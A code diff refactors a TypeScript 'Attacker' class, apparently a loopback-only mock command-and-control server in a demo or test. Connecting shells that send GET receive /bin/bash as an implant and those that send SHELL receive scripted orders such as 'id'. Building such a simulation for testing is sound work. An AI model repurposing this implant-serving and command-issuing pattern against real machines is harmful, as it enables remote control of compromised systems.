@@ -1,6 +1,7 @@
 import { once } from 'node:events';
 import { createReadStream } from 'node:fs';
-import { type AddressInfo, createServer, type Server, type Socket } from 'node:net';
+import { type AddressInfo, createServer, type Socket } from 'node:net';
+import { LoopbackServer } from '../../../cli/src/demo/loopback-server.ts';
 
 /** What a shell that has come home is told, line by line. */
 const ORDERS = (port: number): string => `id
@@ -15,41 +16,33 @@ exit
 
 /** The attacker's machine, on loopback. Who says GET gets an implant (a copy of the shell), SHELL is told what to do, PUT is listened to. */
 export class Attacker implements AsyncDisposable {
-  readonly #server: Server;
-  readonly #sockets = new Set<Socket>();
+  readonly #server: LoopbackServer;
 
-  private constructor() {
-    this.#server = createServer((socket) => this.#accept(socket));
+  private constructor(server: LoopbackServer) {
+    this.#server = server;
   }
 
   static async listen(): Promise<Attacker> {
-    const attacker = new Attacker();
-    attacker.#server.listen(0, '127.0.0.1');
-    await once(attacker.#server, 'listening');
-    return attacker;
+    const server = await LoopbackServer.listen((socket) => answer(socket, server));
+    return new Attacker(server);
   }
 
   get port(): number {
-    return (this.#server.address() as AddressInfo).port;
-  }
-
-  #accept(socket: Socket): void {
-    this.#sockets.add(socket);
-    socket.on('close', () => this.#sockets.delete(socket));
-    socket.on('error', () => socket.destroy());
-    socket.once('data', (first: Buffer) => {
-      const word = first.toString('latin1').split('\n')[0];
-      if (word === 'GET') createReadStream('/bin/bash').pipe(socket);
-      else if (word === 'SHELL') socket.write(ORDERS(this.port));
-      else socket.resume();
-    });
+    return this.#server.port;
   }
 
   async [Symbol.asyncDispose](): Promise<void> {
-    for (const socket of this.#sockets) socket.destroy();
-    this.#server.close();
-    await once(this.#server, 'close');
+    await this.#server[Symbol.asyncDispose]();
   }
+}
+
+function answer(socket: Socket, { port }: LoopbackServer): void {
+  socket.once('data', (first: Buffer) => {
+    const word = first.toString('latin1').split('\n')[0];
+    if (word === 'GET') createReadStream('/bin/bash').pipe(socket);
+    else if (word === 'SHELL') socket.write(ORDERS(port));
+    else socket.resume();
+  });
 }
 
 /** A port of loopback that nobody has now. */
